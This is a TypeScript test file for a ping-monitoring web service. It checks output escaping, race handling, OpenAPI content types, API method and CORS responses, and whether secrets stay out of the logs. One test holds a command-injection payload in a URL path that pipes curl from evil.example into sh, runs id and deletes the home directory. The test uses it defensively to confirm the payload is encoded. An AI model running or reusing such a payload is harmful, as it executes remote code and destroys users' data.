import { describe, expect, it, vi } from 'vitest';
import { jsonLog } from '../../lib/runtime/report/log.ts';
import { rawCall } from '../support/service/raw-call.ts';
import { startTestService } from '../support/service/service.ts';
import { shared } from '../support/service/shared.ts';
import { describe as describeApi } from './described.ts';

const service = shared(() => startTestService({ allowLoopbackAlerts: false }));

describe('the page that a browser gets at a ping URL', () => {
  const opened = async (path: string) => {
    const page = await rawCall(service.url, 'GET', path, { 'sec-fetch-mode': 'navigate' });
    return { page, command: /<code>([\s\S]*?)<\/code>/.exec(page.text)?.[1] };
  };

  it('gives one harmless word as the URL to copy, whatever text the link carried', async () => {
    // The name behind a key is the one part of such a URL that may be any text.
    const key = `hpk_${'A'.repeat(43)}`;
    const { command } = await opened(
      `/in/${key}/x';curl%20evil.example|sh;$(id)\`id\`%0Arm%20-rf%20~&%3Cb%3E`,
    );

    expect(command).toBe(
      `curl -fsS -m 10 --retry 5 -o /dev/null ${service.url}/in/${key}/x%27%3Bcurl%20evil.example%7Csh%3B%24%28id%29%60id%60%0Arm%20-rf%20%7E%26%3Cb%3E`,
    );
  });

  it('leaves the URL of a monitor as it is, and is not to be read as anything but HTML', async () => {
    const { page, command } = await opened('/in/0123456789abcdefghjkmnpqrs/start');

    expect(command).toBe(
      `curl -fsS -m 10 --retry 5 -o /dev/null ${service.url}/in/0123456789abcdefghjkmnpqrs/start`,
    );
    expect(page.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('two calls at the same instant', () => {
  it('answer 409 rather than 500 when one loses against the other', async () => {
    const alice = await service.guest();
    const { id } = await alice.createMonitor({ alert_url: 'https://a.invalid/hook' });

    const first = await alice.call('POST', `/api/endpoints/${id}/test-alert`);
    const second = await alice.call('POST', `/api/endpoints/${id}/test-alert`);

    expect(first.status).toBe(200);
    expect([200, 409]).toContain(second.status);
  });
});

describe('the OpenAPI document', () => {
  it('says in which form the feeds refuse, and that they answer 304', async () => {
    const { operations } = await describeApi(service);

    const forms = ['showFeedPage', 'showFeedJson', 'showFeedRss', 'showFeedMetrics', 'showBadge'].map(
      (id) => {
        const promised = operations.find((operation) => operation.id === id)?.promised;
        return [id, Object.keys(promised?.['404']?.content ?? {})[0], promised?.['304'] !== undefined];
      },
    );

    expect(forms).toEqual([
      ['showFeedPage', 'text/html; charset=utf-8', true],
      ['showFeedJson', 'application/json', true],
      ['showFeedRss', 'application/rss+xml; charset=utf-8', true],
      ['showFeedMetrics', 'text/plain; version=0.0.4; charset=utf-8', true],
      ['showBadge', 'image/svg+xml; charset=utf-8', true],
    ]);
  });
});

describe('the index of the API', () => {
  it.each(['POST', 'PUT', 'TRACE'])('answers 405 to %s', async (method) => {
    const { status, headers } = await rawCall(service.url, method, '/api/');

    expect([status, headers['allow']]).toEqual([405, 'GET, HEAD, OPTIONS']);
  });

  it('lets a browser ask beforehand whether it may be read from another site', async () => {
    const { status, headers } = await rawCall(service.url, 'OPTIONS', '/api/', {
      origin: 'https://a.example',
    });

    expect([status, headers['access-control-allow-origin']]).toEqual([204, '*']);
  });
});

describe('a failure of ours', () => {
  /** What the log line says when every call to the table fails with an error that repeats all it was sent. */
  async function loggedBy(method: string, path: string, headers: Record<string, string>) {
    await using failing = await startTestService({ log: jsonLog });
    failing.core.table.client.middlewareStack.add(
      () => (args) => Promise.reject(new Error(`Refused:\n${JSON.stringify(args.input)}\n${path}`)),
      { step: 'initialize', name: 'fail' },
    );
    const written: string[] = [];
    const spy = vi.spyOn(process.stderr, 'write').mockImplementation((line) => {
      written.push(String(line));
      return true;
    });
    const reply = await rawCall(failing.url, method, path, headers).finally(() => spy.mockRestore());
    return { reply, log: written.join('') };
  }

  it.each([
    ['GET', '/in/0123456789abcdefghjkmnpqrs?rid=SECRET', {}],
    ['GET', '/api/endpoints', { 'x-guest-token': `hp_${'SECRET0'.repeat(6)}1` }],
    ['GET', `/s/${'SECRET0'.repeat(6)}1.json`, {}],
  ])('logs neither what was sent nor what the error says, for %s %s', async (method, path, headers) => {
    const { reply, log } = await loggedBy(method, path, headers);

    expect(reply.status).toBe(500);
    expect(reply.text).toContain(String(reply.headers['x-request-id']));
    expect(reply.text).not.toMatch(/Refused|SECRET|\.ts|TableName/);
    expect(log).toContain('"operation_failed"');
    expect(log).not.toMatch(/Refused|SECRET|TableName|0123456789abcdefghjkmnpqrs/);
  });
});
